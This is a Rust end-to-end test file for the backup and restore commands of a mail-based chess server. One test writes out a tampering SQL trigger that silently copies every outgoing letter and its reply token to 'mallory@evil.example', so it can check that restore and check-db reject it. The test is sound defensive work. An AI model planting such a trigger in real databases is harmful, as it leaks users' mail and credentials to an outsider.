//! Issue 25, backups: `pawnpost backup --to FILE` copies the database through SQLite's
//! online backup API while mail is being processed, with the server secret beside it;
//! `pawnpost restore --from FILE` refuses while the daemon has the database open and
//! puts a checked copy in place once it has stopped. All through the real binary on a
//! real file database: `pawnpost deliver` processes apply moves while backups run,
//! `check-db` judges each copy, and `pawnpost run` starts on the restored one and
//! accepts a move whose reply address the restored secret signed.

use crate::e2e_support;

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use e2e_support::{DEADLINE, Db, Inbox, Pawnpost, poll};
use pawnpost::game::Game;
use pawnpost::identity::{ReplyToken, ServerSecret, reply_address};
use pawnpost::store::Store;

const SERVER: &str = "pawnpost@localhost";
const DAY: i64 = 86_400;

/// An installation on the embedded default in a fresh directory.
struct Site {
    pp: Pawnpost,
    dir: tempfile::TempDir,
}

impl Site {
    fn new() -> Site {
        let dir = tempfile::tempdir().unwrap();
        let pp = Pawnpost {
            dir: dir.path().to_path_buf(),
            config: None,
        };
        Site { pp, dir }
    }

    /// A site with its secret and `games` games between `w<i>@example.org` and
    /// `b<i>@example.org`, White to move.
    fn with_games(games: usize) -> Site {
        let site = Site::new();
        site.secret();
        let mut store = Store::open(&site.database()).unwrap();
        let now = pawnpost::time::now();
        store
            .transaction(|tx| {
                for i in 0..games {
                    let mut game = Game::new(
                        &format!("w{i}@example.org"),
                        &format!("b{i}@example.org"),
                        30 * DAY,
                        now,
                    );
                    tx.insert_game(&mut game, now)?;
                }
                Ok::<_, pawnpost::store::StoreError>(())
            })
            .unwrap();
        site
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.dir.path().join(relative)
    }

    fn database(&self) -> PathBuf {
        self.path("var/pawnpost.sqlite3")
    }

    fn secret(&self) -> ServerSecret {
        ServerSecret::load_or_create(&self.path("var/secret")).unwrap()
    }

    /// `player`'s move `san` in `game`, to their reply address of that game.
    fn move_mail(&self, game: i64, player: &str, san: &str, id: &str) -> Vec<u8> {
        let token = ReplyToken::for_player(&self.secret(), game, player);
        let to = reply_address(SERVER, game, &token);
        format!(
            "From: {player}\r\nTo: {to}\r\nSubject: game {game}\r\nMessage-ID: <{id}@example.org>\r\n\r\n{san}\r\n"
        )
        .into_bytes()
    }

    /// `pawnpost deliver` of one mail; its exit code and standard error.
    fn deliver(&self, mail: &[u8]) -> (i32, String) {
        let (status, err) = self.pp.deliver_with(mail, &[]);
        (status.code().unwrap_or(-1), err)
    }

    /// A command's exit code, standard output and standard error.
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        let out = self.pp.output(args);
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// `pawnpost status --json`.
    fn status(&self) -> serde_json::Value {
        serde_json::from_str(&self.pp.ok(&["status", "--json"])).unwrap()
    }

    /// Waits until a `pawnpost run` has read its mailbox.
    fn wait_daemon_reads_mail(&self) {
        poll(DEADLINE, || {
            (!self.status()["mailbox_checked_at"].is_null()).then_some(())
        })
        .expect("the daemon read its mailbox");
    }
}

/// (games, moves) in a database file, read without touching it.
fn contents(database: &Path) -> (i64, i64) {
    let conn =
        rusqlite::Connection::open_with_flags(database, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let count = |sql: &str| conn.query_row(sql, [], |r| r.get(0)).unwrap();
    (
        count("SELECT count(*) FROM games"),
        count("SELECT count(*) FROM moves"),
    )
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// What a directory holds, file names sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// The "done when": backups taken while `pawnpost deliver` processes commit
/// moves are each one consistent snapshot (`check-db` passes on the restored copy),
/// and the daemon starts on the restored copy and plays on with the restored secret.
#[test]
fn a_backup_taken_while_moves_are_delivered_restores_to_a_database_the_daemon_runs_on() {
    const GAMES: usize = 48;
    const SENDERS: usize = 4;
    let site = Site::with_games(GAMES);
    std::fs::create_dir(site.path("backups")).unwrap();
    let site = Arc::new(site);
    let delivered = Arc::new(AtomicUsize::new(0));
    let senders: Vec<_> = (0..SENDERS)
        .map(|sender| {
            let (site, delivered) = (Arc::clone(&site), Arc::clone(&delivered));
            std::thread::spawn(move || {
                for i in (sender..GAMES).step_by(SENDERS) {
                    let white = format!("w{i}@example.org");
                    let mail = site.move_mail(i as i64 + 1, &white, "e4", &format!("m{i}"));
                    let (code, stderr) = site.deliver(&mail);
                    assert_eq!(code, 0, "deliver of game {}: {stderr}", i + 1);
                    delivered.fetch_add(1, Ordering::SeqCst);
                }
            })
        })
        .collect();

    // Backups, one after another, for as long as the deliveries go on.
    let mut backups = Vec::new();
    let mut timings = Vec::new();
    while backups.is_empty() || senders.iter().any(|s| !s.is_finished()) {
        let to = site.path(&format!("backups/{}.sqlite3", backups.len()));
        let started = Instant::now();
        let (code, out, err) = site.run(&["backup", "--to", to.to_str().unwrap()]);
        timings.push(started.elapsed());
        assert_eq!(code, 0, "backup failed: {err}");
        assert!(out.contains("backed up"), "{out}");
        backups.push(to);
    }
    for sender in senders {
        sender.join().unwrap();
    }
    assert_eq!(delivered.load(Ordering::SeqCst), GAMES);
    let slowest = timings.iter().max().unwrap();
    eprintln!(
        "{} backups of a database of {GAMES} games while {GAMES} moves were delivered; slowest {slowest:?}",
        backups.len()
    );

    // Each copy is private, has its secret beside it, and holds a moment of the
    // deliveries; at least one caught them half done.
    let original_secret = std::fs::read(site.path("var/secret")).unwrap();
    let mut midway = None;
    for backup in &backups {
        let secret = pawnpost::backup::secret_beside(backup);
        assert_eq!(std::fs::read(&secret).unwrap(), original_secret);
        #[cfg(unix)]
        {
            assert_eq!(mode(backup), 0o600, "{}", backup.display());
            assert_eq!(mode(&secret), 0o600, "{}", secret.display());
        }
        let (games, moves) = contents(backup);
        assert_eq!(games, GAMES as i64);
        if moves > 0 && moves < GAMES as i64 {
            midway = Some((backup.clone(), moves));
        }
    }
    let backup_files = listing(&site.path("backups"));
    assert_eq!(backup_files.len(), 2 * backups.len(), "{backup_files:?}");
    let (backup, moves) = midway.unwrap_or_else(|| {
        panic!(
            "no backup caught the deliveries half done: {:?}",
            backups.iter().map(|b| contents(b).1).collect::<Vec<_>>()
        )
    });

    // Restored on another machine (here: a fresh directory), it passes check-db.
    let restored = Site::new();
    let (code, out, err) = restored.run(&["restore", "--from", backup.to_str().unwrap()]);
    assert_eq!(code, 0, "restore failed: {err}");
    assert!(out.contains("every game replays"), "{out}");
    assert_eq!(contents(&restored.database()), (GAMES as i64, moves));
    let check = restored.pp.ok(&["check-db"]);
    assert!(check.starts_with("ok:"), "{check}");
    assert_eq!(
        std::fs::read(restored.path("var/secret")).unwrap(),
        original_secret
    );

    // The daemon starts on it and takes Black's answer in a game whose first move the
    // backup holds: the reply address was signed with the secret the backup restored.
    let game = {
        let conn = rusqlite::Connection::open(restored.database()).unwrap();
        conn.query_row("SELECT min(game_id) FROM moves", [], |r| r.get::<_, i64>(0))
            .unwrap()
    };
    let (white, black) = (
        format!("w{}@example.org", game - 1),
        format!("b{}@example.org", game - 1),
    );
    let daemon = restored.pp.start_daemon();
    restored.wait_daemon_reads_mail();
    let mail = site.move_mail(game, &black, "e5", "answer");
    let spool = restored.path("var/spool/pawnpost");
    std::fs::write(spool.join("tmp/answer"), &mail).unwrap();
    std::fs::rename(spool.join("tmp/answer"), spool.join("new/answer")).unwrap();
    let db = Db::new(restored.database());
    let outcome = db.wait_committed("answer@example.org");
    let mut inbox = Inbox::new(&white, restored.path("var/spool").join(&white));
    let letter = inbox.expect("telling White of 1...e5", |r| {
        r.text.contains("played 1... e5:")
    });
    assert!(
        letter.subject.contains(&format!("#{game}")),
        "{outcome}: {letter:?}"
    );
    assert!(daemon.terminate().success());
}

/// Restore refuses while `pawnpost run` has the database open, changing nothing, and
/// works once it has stopped: the backup's games and secret take the place of the
/// site's own, which are kept beside them.
#[test]
fn restore_refuses_while_the_daemon_runs_and_works_after_it_stops() {
    let source = Site::with_games(3);
    let backup = source.path("backup.sqlite3");
    source.pp.ok(&["backup", "--to", backup.to_str().unwrap()]);

    let site = Site::with_games(5);
    let own_secret = std::fs::read(site.path("var/secret")).unwrap();
    let daemon = site.pp.start_daemon();
    site.wait_daemon_reads_mail();
    let before = listing(&site.path("var"));

    let (code, out, err) = site.run(&["restore", "--from", backup.to_str().unwrap()]);
    assert_ne!(code, 0, "restore went ahead while the daemon ran: {out}");
    assert!(err.contains("is in use"), "{err}");
    assert!(err.contains("stop the daemon"), "{err}");
    assert_eq!(listing(&site.path("var")), before, "nothing written");
    assert_eq!(site.status()["games_active"], 5);
    assert_eq!(std::fs::read(site.path("var/secret")).unwrap(), own_secret);

    assert!(daemon.terminate().success());
    let (code, out, err) = site.run(&["restore", "--from", backup.to_str().unwrap()]);
    assert_eq!(code, 0, "restore after the daemon stopped: {err}");
    for line in [
        "(3 games, schema version",
        "var/pawnpost.sqlite3.before-restore",
        "var/secret.before-restore",
    ] {
        assert!(out.contains(line), "{line:?} missing in\n{out}");
    }
    // No temporary file, and no WAL of the replaced database beside the new one.
    let names = listing(&site.path("var"));
    assert!(
        names
            .iter()
            .all(|n| !n.starts_with('.') && !n.ends_with("-wal")),
        "{names:?}"
    );
    assert_eq!(contents(&site.database()).0, 3);
    assert_eq!(
        contents(&site.path("var/pawnpost.sqlite3.before-restore")).0,
        5
    );
    let source_secret = std::fs::read(source.path("var/secret")).unwrap();
    assert_eq!(
        std::fs::read(site.path("var/secret")).unwrap(),
        source_secret
    );
    assert_eq!(
        std::fs::read(site.path("var/secret.before-restore")).unwrap(),
        own_secret
    );
    #[cfg(unix)]
    {
        assert_eq!(mode(&site.path("var/secret")), 0o600);
        assert_eq!(mode(&site.path("var/secret.before-restore")), 0o600);
        assert_eq!(mode(&site.database()), 0o600);
    }
    assert!(site.pp.ok(&["check-db"]).starts_with("ok:"));

    // The daemon starts on the restored database.
    let daemon = site.pp.start_daemon();
    site.wait_daemon_reads_mail();
    assert_eq!(site.status()["games_active"], 3);
    assert!(daemon.terminate().success());
}

/// The mistakes an admin can make with the two commands, each refused with a message
/// that names the file.
#[test]
fn backup_and_restore_refuse_what_would_lose_data() {
    let site = Site::with_games(1);
    let database = site.database();

    // A backup onto the database itself, or of a database that does not exist.
    let (code, _, err) = site.run(&["backup", "--to", database.to_str().unwrap()]);
    assert_ne!(code, 0);
    assert!(
        err.contains("is a file of the running installation"),
        "{err}"
    );
    assert_eq!(contents(&database).0, 1);
    let empty = Site::new();
    let (code, _, err) = empty.run(&["backup", "--to", "copy.sqlite3"]);
    assert_ne!(code, 0);
    assert!(
        err.contains("there is no database at var/pawnpost.sqlite3"),
        "{err}"
    );
    assert!(!empty.path("var/pawnpost.sqlite3").exists(), "none created");

    // A backup into a directory that does not exist names it.
    let (code, _, err) = site.run(&["backup", "--to", "missing/copy.sqlite3"]);
    assert_ne!(code, 0);
    assert!(err.contains("missing/copy.sqlite3"), "{err}");

    // A restore without the secret beside the backup: refused, unless the admin
    // keeps the current secret.
    site.pp.ok(&["backup", "--to", "copy.sqlite3"]);
    std::fs::remove_file(site.path("copy.sqlite3.secret")).unwrap();
    let (code, _, err) = site.run(&["restore", "--from", "copy.sqlite3"]);
    assert_ne!(code, 0);
    assert!(err.contains("copy.sqlite3.secret: no such file"), "{err}");
    assert!(err.contains("--keep-secret"), "{err}");
    assert!(!site.path("var/pawnpost.sqlite3.before-restore").exists());
    let out = site
        .pp
        .ok(&["restore", "--from", "copy.sqlite3", "--keep-secret"]);
    assert!(out.contains("server secret kept as it was"), "{out}");

    // A file that is no database, and a missing one.
    std::fs::write(site.path("notes.txt"), vec![b'x'; 4096]).unwrap();
    let (code, _, err) = site.run(&["restore", "--from", "notes.txt", "--keep-secret"]);
    assert_ne!(code, 0);
    assert!(err.contains("notes.txt: is no database"), "{err}");
    let (code, _, err) = site.run(&["restore", "--from", "nothing.sqlite3", "--keep-secret"]);
    assert_ne!(code, 0);
    assert!(
        err.contains("nothing.sqlite3: no such backup file"),
        "{err}"
    );
    assert_eq!(contents(&database).0, 1);
}

/// While a restore holds the database, nothing opens it: a delivery exits 75, so the
/// MTA keeps the mail and tries again, and a daemon does not start.
#[test]
fn while_a_restore_holds_the_database_a_delivery_waits_and_the_daemon_does_not_start() {
    let site = Site::with_games(1);
    let restore = pawnpost::store::DatabaseLock::exclusive(&site.database()).unwrap();
    let mail = site.move_mail(1, "w0@example.org", "e4", "during");
    let (code, stderr) = site.deliver(&mail);
    assert_eq!(code, 75, "{stderr}");
    assert!(stderr.contains("is being restored"), "{stderr}");
    let (code, _, err) = site.run(&["run"]);
    assert_ne!(code, 0);
    assert!(err.contains("is being restored"), "{err}");

    drop(restore);
    let (code, stderr) = site.deliver(&mail);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(contents(&site.database()), (1, 1));
}

/// `sudo pawnpost restore` (as root, not as the daemon's user) leaves the restored
/// database and secret owned by whoever owned the ones they replace, so the daemon's
/// user can still open them. Runs only as root (as scripts/test does on CI): only root
/// can give files away.
#[cfg(unix)]
#[test]
fn a_restore_as_root_leaves_the_files_to_the_daemons_user() {
    use std::os::unix::fs::MetadataExt as _;
    // SAFETY: geteuid has no preconditions and cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: only root can give files away (scripts/test on CI runs as root)");
        return;
    }
    let source = Site::with_games(2);
    let backup = source.path("backup.sqlite3");
    source.pp.ok(&["backup", "--to", backup.to_str().unwrap()]);

    // The daemon's user: nobody (65534), owning its directory and files.
    const DAEMON: u32 = 65534;
    let site = Site::with_games(1);
    for relative in ["var", "var/pawnpost.sqlite3", "var/secret"] {
        std::os::unix::fs::chown(site.path(relative), Some(DAEMON), Some(DAEMON)).unwrap();
    }
    site.pp.ok(&["restore", "--from", backup.to_str().unwrap()]);
    for relative in [
        "var/pawnpost.sqlite3",
        "var/secret",
        "var/pawnpost.sqlite3.before-restore",
        "var/secret.before-restore",
    ] {
        let meta = std::fs::metadata(site.path(relative)).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (DAEMON, DAEMON), "{relative}");
    }
    assert_eq!(contents(&site.database()).0, 2);
}

/// Issue 30, finding 4: a backup file is whatever its bearer made of it. One with an
/// added trigger that copies every letter (and its reader's reply token) to a stranger
/// is refused with the trigger named, and the live database stays as it was; on a live
/// database, `check-db` names the same difference.
#[test]
fn a_backup_with_a_trigger_added_is_not_restored_and_check_db_names_one_in_the_live_database() {
    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox_raw \
        WHEN (SELECT recipient FROM outbox WHERE id = NEW.id) <> 'mallory@evil.example' BEGIN \
        INSERT INTO outbox (recipient, subject, message_id, next_attempt_at, created_at) \
        SELECT 'mallory@evil.example', subject, message_id || '.copy', next_attempt_at, \
        created_at FROM outbox WHERE id = NEW.id; \
        INSERT INTO outbox_raw (id, raw) VALUES (last_insert_rowid(), NEW.raw); END";
    let version = pawnpost::store::MIGRATIONS.len();
    let named = format!("trigger outbox_copy is not part of schema version {version}");

    let source = Site::with_games(3);
    let backup = source.path("backup.sqlite3");
    source.pp.ok(&["backup", "--to", backup.to_str().unwrap()]);
    rusqlite::Connection::open(&backup)
        .unwrap()
        .execute_batch(OUTBOX_COPY)
        .unwrap();

    let site = Site::with_games(5);
    let own_secret = std::fs::read(site.path("var/secret")).unwrap();
    let before = listing(&site.path("var"));
    let (code, out, err) = site.run(&["restore", "--from", backup.to_str().unwrap()]);
    assert_ne!(code, 0, "a tampered backup was restored: {out}");
    assert!(err.contains(&named), "{err}");
    assert!(err.contains("backup.sqlite3"), "names the file: {err}");
    assert_eq!(listing(&site.path("var")), before, "nothing written");
    assert_eq!(contents(&site.database()).0, 5);
    assert_eq!(std::fs::read(site.path("var/secret")).unwrap(), own_secret);
    let check = site.pp.ok(&["check-db"]);
    assert!(check.starts_with("ok:"), "{check}");

    // The same trigger put into the live database: check-db says so and fails.
    rusqlite::Connection::open(site.database())
        .unwrap()
        .execute_batch(OUTBOX_COPY)
        .unwrap();
    let (code, out, _) = site.run(&["check-db"]);
    assert_ne!(code, 0, "{out}");
    assert!(out.contains(&named), "{out}");
}

/// Issue 30: `backup --to` a file of the live database's family reported success,
/// then SQLite deleted the copy and its `.secret` stayed in the live directory. Each is
/// refused, however its directory is spelled, and nothing is written anywhere.
#[test]
fn backup_refuses_every_file_of_the_live_database_and_writes_nothing() {
    let site = Site::with_games(1);
    let own_secret = std::fs::read(site.path("var/secret")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(site.path("var"), site.path("link")).unwrap();
    let (var, top) = (listing(&site.path("var")), listing(site.dir.path()));
    let mut targets = Vec::new();
    for name in [
        "pawnpost.sqlite3",
        "pawnpost.sqlite3-wal",
        "pawnpost.sqlite3-shm",
        "pawnpost.sqlite3-journal",
        "pawnpost.sqlite3.lock",
        "secret",
    ] {
        targets.push(format!("var/{name}"));
        targets.push(
            site.path(&format!("var/../var/./{name}"))
                .display()
                .to_string(),
        );
        #[cfg(unix)]
        targets.push(format!("link/{name}"));
    }
    for to in &targets {
        let (code, out, err) = site.run(&["backup", "--to", to]);
        assert_ne!(code, 0, "backup --to {to} went ahead: {out}");
        assert!(
            err.contains("is a file of the running installation"),
            "{to}: {err}"
        );
        assert_eq!(listing(&site.path("var")), var, "{to}: nothing written");
        assert_eq!(listing(site.dir.path()), top, "{to}: nothing written");
    }
    assert_eq!(contents(&site.database()).0, 1);
    assert_eq!(std::fs::read(site.path("var/secret")).unwrap(), own_secret);
    assert!(site.pp.ok(&["check-db"]).starts_with("ok:"));
    // Beside them, under a name of its own, the backup is taken.
    site.pp.ok(&["backup", "--to", "var/copy.sqlite3"]);
    assert_eq!(contents(&site.path("var/copy.sqlite3")).0, 1);
}
